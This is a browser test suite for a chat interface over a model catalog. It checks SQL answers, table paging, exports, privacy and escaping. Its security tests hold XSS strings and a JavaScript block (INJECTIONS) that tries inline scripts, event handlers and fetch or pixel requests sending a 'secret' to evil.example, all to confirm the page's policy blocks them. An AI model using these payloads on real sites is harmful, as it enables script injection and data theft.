"""The chat in a real browser: the question of the README, and what people do around it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from hub.catalog import create_model
from hub.home import Hub
from tests.assistant.conftest import KEY
from tests.browsing import TOOL, USER, last_answer, last_table, number, say
from tests.conftest import caller_for
from tests.endpoint import Endpoint, Say, call
from tests.running import RunningHub

pytestmark = pytest.mark.browser

QUESTION = "which CNNs have more than 20M parameters?"
HOSTILE = "<img src=x onerror=pwned()> ![a](a.png) **b** www.evil.example =1+1"
STORY = f"{HOSTILE} ![a](http://evil.example/a.png) <script src=//evil.example/x.js></script>"
SECRET = "zebra-of-alice"


Enter = Callable[..., Page]


@pytest.fixture(scope="module")
def furnish() -> Callable[[Hub], None]:
    """A model of hostile words, and a private one."""
    return add_hostile_and_secret


def add_hostile_and_secret(hub: Hub) -> None:
    alice = caller_for(hub, "alice")
    record = {"media_type": "text", "arch_name": "rnn", "train_name": "rl", "param_num": 7}
    create_model(alice, {**record, "model_name": HOSTILE, "description": STORY})
    create_model(alice, {**record, "model_name": SECRET, "visibility": "private"})


def check_answer(page: Page) -> None:
    """The README's question stands answered: with its SQL, and a table of nothing but what was asked for."""
    sql = page.locator(f"{TOOL} code").first.inner_text()
    assert re.search(r"arch_name\s*=\s*'cnn'", sql)
    assert "20000000" in sql
    rows = last_table(page)
    heads = page.locator(".hub-table").last.locator("th").all_inner_texts()
    sizes = [number(row[heads.index("Parameter count")]) for row in rows]
    assert len(sizes) >= 10
    assert min(sizes) > 20_000_000
    assert "resnet50" in page.locator(".hub-table").last.inner_text() or len(sizes) == 20


# --- the question of the README -------------------------------------------------------------------


def test_the_question_is_answered_and_stays_answered(enter: Enter) -> None:
    page = enter()
    say(page, QUESTION)
    check_answer(page)
    assert page.locator(".hub-home").count() == 0

    page.reload()
    check_answer(page)

    second = page.context.new_page()
    second.goto(page.url)
    second.wait_for_selector(".hub-table")
    check_answer(second)
    say(second, "which of them have more than 100M parameters?")
    assert all(number(row[-1]) > 100_000_000 for row in last_table(second))

    page.evaluate("window.sockets.forEach((socket) => socket.close())")
    page.wait_for_function("window.sockets.at(-1).readyState === 1")
    say(page, "which CNNs have more than 100M parameters?")
    assert all(number(row[-1]) > 100_000_000 for row in last_table(page))


def test_buttons_work_whichever_connection_of_a_loading_page_is_answered_first(enter: Enter) -> None:
    page = enter("bob.tanaka")
    say(page, QUESTION)
    came: list[Route] = []

    def answer_the_first_last(route: Route) -> None:
        came.append(route)
        if len(came) == 1:  # where there is no second, it goes on all the same
            page.wait_for_timeout(800)
        route.continue_()

    page.route("**/set-session-cookie", answer_the_first_last)
    page.reload()
    check_answer(page)
    page.unroute_all(behavior="wait")
    page.locator(".hub-table").get_by_role("button", name="resnet50", exact=True).click()
    expect(page.locator("#side-view-content .hub-card")).to_contain_text("25,557,032")


def test_the_way_down_takes_no_click_that_is_meant_for_what_lies_under_it(enter: Enter) -> None:
    page = enter("bob.tanaka")
    for _ in range(2):
        say(page, QUESTION)
    page.locator(USER).first.scroll_into_view_if_needed()
    down = page.locator("button:has(.lucide-arrow-down)").locator("visible=true").last
    down.wait_for()
    taken = "(one) => [one, one.parentElement].map((each) => getComputedStyle(each).pointerEvents)"
    assert down.evaluate(taken) == ["auto", "none"]


def test_a_chat_is_taken_up_again_from_the_sidebar(enter: Enter, tmp_path: Path) -> None:
    page = enter("bob.tanaka")
    say(page, QUESTION)
    check_answer(page)
    page.locator("#new-chat-button").first.click()
    confirm = page.get_by_role("button", name="Confirm")
    if confirm.count():
        confirm.click()
    page.wait_for_selector(".hub-home")
    page.get_by_role("link", name="which CNNs").first.click()
    page.wait_for_selector(".hub-table")
    check_answer(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Export CSV").click()
    assert download.value.suggested_filename == "result.csv"
    say(page, "only those with more than 100M parameters")
    assert all(number(row[-1]) > 100_000_000 for row in last_table(page))
    say(page, "/export csv")
    expect(last_answer(page)).to_contain_text("result.csv")
    page.locator("#chat-input").fill("/")
    expect(page.locator(".command-item").first).to_be_visible()


# --- what the page's policy keeps from running ------------------------------------------------------

INJECTIONS = """async () => {
  window.ran = [];
  const refused = [];
  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
  const place = document.body.appendChild(document.createElement('div'));
  place.innerHTML = `<img src=x onerror="ran.push('handler')"><svg onload="ran.push('svg')"></svg>
    <a id=link href="javascript:ran.push('link')">x</a><p style="background:url(//evil.example/style)">x</p>
    <iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
    <img src="https://evil.example/pixel?secret"><form id=form action="https://evil.example/"></form>`;
  document.getElementById('link').click();
  for (const fill of [(script) => (script.textContent = "ran.push('inline')"),
                      (script) => (script.src = 'https://evil.example/x.js'),
                      (script) => (script.src = "data:text/javascript,ran.push('data')"),
                      (script) => (script.src = URL.createObjectURL(new Blob(["ran.push('blob')"])))]) {
    const script = document.createElement('script');
    fill(script);
    place.append(script);
  }
  document.getElementById('form').submit();
  await fetch('https://evil.example/?secret', { mode: 'no-cors' }).catch(() => refused.push('fetch failed'));
  await new Promise((resolve) => setTimeout(resolve, 500));
  return { ran: window.ran, refused: [...new Set(refused)].sort() };
}"""


def test_markup_that_slips_in_runs_nothing_and_tells_nobody(browser: Browser, served: RunningHub) -> None:
    """Data is escaped; were it not, the policy still keeps it from running and from reaching another site."""
    context = browser.new_context(base_url=served.url)
    blocked: dict[str, str | None] = {}
    context.on("requestfailed", lambda request: blocked.update({request.url: request.failure}))
    page = context.new_page()
    page.goto("/login")
    page.fill("input[name=name]", "alice")
    page.fill("input[name=password]", "admin")
    page.click("button[type=submit]")
    page.wait_for_selector(".hub-home")
    found = page.evaluate(INJECTIONS)
    context.close()
    assert found["ran"] == []
    assert {"script-src-attr", "script-src-elem", "img-src", "connect-src", "form-action"} <= set(found["refused"])
    elsewhere = {reason for url, reason in blocked.items() if "evil.example" in url}
    assert elsewhere == {"csp"}  # stopped in the browser, before anything was sent


# --- tables ---------------------------------------------------------------------------------------


def test_a_short_table_sorts_and_pages_in_the_browser_by_keyboard(enter: Enter) -> None:
    page = enter()
    say(page, "/sql SELECT model_name, param_num FROM model WHERE param_num > 20000000")
    table = page.locator(".hub-table")
    heading = table.get_by_role("columnheader", name="Parameter count")
    heading.locator("button").focus()
    page.keyboard.press("Enter")
    expect(heading).to_have_attribute("aria-sort", "descending")
    rows = table.locator("tbody tr")
    expect(rows.first).to_be_visible()
    sizes = [number(row[1]) for row in last_table(page)]
    assert sizes
    assert sizes == sorted(sizes, reverse=True)
    table.get_by_role("button", name="Next page").focus()
    page.keyboard.press("Enter")
    expect(rows.first).to_be_visible()
    assert number(last_table(page)[0][1]) <= sizes[-1]
    expect(table.locator(".count")).to_contain_text("21–40 of ")


def test_a_long_table_sorts_and_pages_at_the_server(enter: Enter) -> None:
    page = enter()
    say(page, "/sql SELECT m.model_name, d.ds_name FROM model m, dataset d")
    table = page.locator(".hub-table")
    expect(table.locator(".count")).to_have_text("1–20 of more than 1,000")
    expect(table.locator(".notes")).to_contain_text("more than 1,000 rows")
    table.get_by_role("button", name="Next page").click()
    expect(table.locator(".count")).to_have_text(re.compile(r"21–40 of \d,\d{3}"))
    table.get_by_role("columnheader", name="Dataset").locator("button").click()
    expect(table.locator(".count")).to_have_text(re.compile("1–20 of"))
    assert len({row[1] for row in last_table(page)}) == 1
    with page.expect_download() as download:
        table.get_by_role("button", name="Export JSON").click()
    data = json.loads(Path(download.value.path()).read_text("utf-8"))
    assert len(data["rows"]) == 1000
    assert data["truncated"] is True
    expect(table.locator(".notes")).to_contain_text("first 1,000 of")


def test_exports_hold_the_rows_and_nothing_a_spreadsheet_runs(enter: Enter) -> None:
    page = enter()
    say(page, "/sql SELECT '=' || model_name AS formula, param_num FROM model WHERE param_num = 25557032")
    with page.expect_download() as download:
        page.get_by_role("button", name="Export CSV").click()
    text = Path(download.value.path()).read_bytes().decode()
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["formula", "param_num"], ["'=resnet50", "25557032"]]
    say(page, "/export json")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download result.json").click()
    assert json.loads(Path(download.value.path()).read_text("utf-8"))["rows"] == [["=resnet50", 25557032]]


def test_a_name_opens_its_details(enter: Enter) -> None:
    page = enter()
    say(page, "/models resnet50")
    page.locator(".hub-table").get_by_role("button", name="resnet50", exact=True).click()
    card = page.locator("#side-view-content .hub-card")
    expect(card).to_contain_text("25,557,032")
    card.get_by_role("button", name="imagenet-1k").click()
    expect(page.locator("#side-view-content .hub-card h3")).to_have_text("imagenet-1k")


def test_a_list_is_searched_as_one_types(enter: Enter) -> None:
    page = enter()
    say(page, "/datasets ")  # the space closes the list of commands
    table = page.locator(".hub-table")
    expect(table.locator(".count")).to_contain_text("1–20 of")
    table.get_by_role("searchbox", name="Search").fill("imagenet-1k")
    expect(table.locator("tbody tr")).to_have_count(1)


# --- what is not understood, and what is not allowed ----------------------------------------------


def test_words_not_understood_are_named_and_near_questions_are_asked_by_a_press(enter: Enter) -> None:
    page = enter()
    say(page, "who made resnet5?")
    answer = last_answer(page)
    expect(answer).to_contain_text("resnet5")
    answer.get_by_role("button", name="who made resnet50?").click()
    expect(page.locator(USER).last).to_contain_text("who made resnet50?")
    expect(last_answer(page).locator(".hub-table")).to_contain_text("bob.tanaka")


def test_an_unknown_command_and_a_refused_statement_say_what_to_do(enter: Enter) -> None:
    page = enter()
    say(page, "/modls x")
    expect(last_answer(page)).to_contain_text("/models")
    say(page, "/sql DELETE FROM model")
    expect(last_answer(page)).to_contain_text("SELECT")
    say(page, "/sql SELECT password_hash FROM user")
    expect(last_answer(page)).to_contain_text("unknown_column")


def test_text_in_data_shows_as_text(enter: Enter) -> None:
    page = enter("bob.tanaka")
    say(page, "/sql SELECT model_name, description FROM model WHERE param_num = 7")
    table = page.locator(".hub-table")
    expect(table.locator("tbody td").first).to_have_text(HOSTILE)
    table.locator(".link").first.click()
    expect(page.locator("#side-view-content h3")).to_have_text(HOSTILE)
    say(page, f"/show {HOSTILE}x")
    answer = last_answer(page)
    assert answer.inner_text().replace("\u2060", "").count(HOSTILE) == 2
    say(page, "which models have exactly 7 parameters?")
    assert page.locator(".message-content img").count() == 0
    assert page.locator(".message-content a").count() == 0


def test_what_is_private_is_not_there_for_others(enter: Enter) -> None:
    bob = enter("bob.tanaka")
    for message in (f"/show {SECRET}", f"/models {SECRET}", f"/sql SELECT * FROM model WHERE model_name = '{SECRET}'"):
        say(bob, message)
    say(bob, "/sql SELECT model_name FROM model WHERE param_num = 7")
    assert [row[0] for row in last_table(bob)] == [HOSTILE]
    say(bob, "/show zebra-of-alic")
    expect(last_answer(bob)).not_to_contain_text(SECRET)
    alice = enter("alice")
    say(alice, "/show zebra-of-alic")
    expect(last_answer(alice)).to_contain_text(SECRET)


def test_a_language_models_attempts_are_shown_and_its_links_are_not(
    enter: Enter, start_hub: Callable[..., RunningHub], endpoint: Endpoint
) -> None:
    endpoint.script(
        call("SELECT nme FROM model"),
        call("SELECT model_name, param_num FROM model WHERE param_num > 20000000 AND arch_name = 'cnn'"),
        Say("**Many** models. ![x](http://evil.example/x.png) [y](http://evil.example) <b>z</b>", pace=0.02),
    )
    running = start_hub(INTERPRETER="off", BASE_URL=endpoint.url, API_KEY=KEY, MODEL_NAME="scripted")
    page = enter(url=running.url)
    say(page, QUESTION)
    assert len(last_table(page)) == 20
    steps = page.locator(TOOL)
    expect(steps).to_have_count(2)
    expect(steps.first).to_contain_text("unknown_column")
    expect(steps.last).to_contain_text("rows in")
    expect(last_answer(page)).to_contain_text(re.compile(r"Many models\. !\[x\]\(http"))
    expect(last_answer(page)).not_to_contain_text("**")
    assert page.locator(".message-content").locator("img, a").count() == 0
    assert "unknown_column" in endpoint.heard


# --- around ---------------------------------------------------------------------------------------


def test_home_counts_asks_and_warns(enter: Enter) -> None:
    page = enter("alice")
    home = page.locator(".hub-home")
    expect(home).to_contain_text("Hello alice")
    expect(home).to_contain_text("demo password")
    assert all(number(count) > 0 for count in home.locator(".count b").all_inner_texts())
    home.get_by_role("button", name=QUESTION).click()
    page.wait_for_selector(".hub-table")
    check_answer(page)


def test_a_command_is_chosen_from_the_list_and_a_scope_from_the_picker(enter: Enter) -> None:
    page = enter()
    page.locator("#chat-input").fill("/he")
    page.locator(".command-item", has_text="help").click()
    page.locator("#chat-input").press("Enter")
    answer = last_answer(page)
    expect(answer).to_contain_text("/datasets [WORD]")
    assert "/export all" not in answer.inner_text()
    page.get_by_role("button", name="All").click()
    page.get_by_text("Only about datasets").click()
    say(page, "which are public?")
    expect(page.locator(f"{TOOL} code").last).to_contain_text("FROM dataset")


def test_a_question_is_stopped_and_the_next_one_answered(enter: Enter) -> None:
    page = enter()
    endless = "/sql SELECT count(*) FROM module a, module b, module c, module d, module e, module f, module g"
    page.locator("#chat-input").fill(endless)
    page.keyboard.press("Enter")
    page.locator("#stop-button").click()
    expect(last_answer(page)).to_contain_text("stopped")
    say(page, QUESTION)
    check_answer(page)


def test_it_fits_a_telephone(enter: Enter) -> None:
    page = enter(viewport={"width": 390, "height": 844}, color_scheme="dark")
    say(page, QUESTION)
    check_answer(page)
    say(page, "/show resnet50")
    page.wait_for_selector(".hub-card")
    assert page.evaluate("document.scrollingElement.scrollWidth <= window.innerWidth")
    for box in (element.bounding_box() for element in page.locator(".hub-table, .hub-card").all()):
        assert box is not None
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= 390
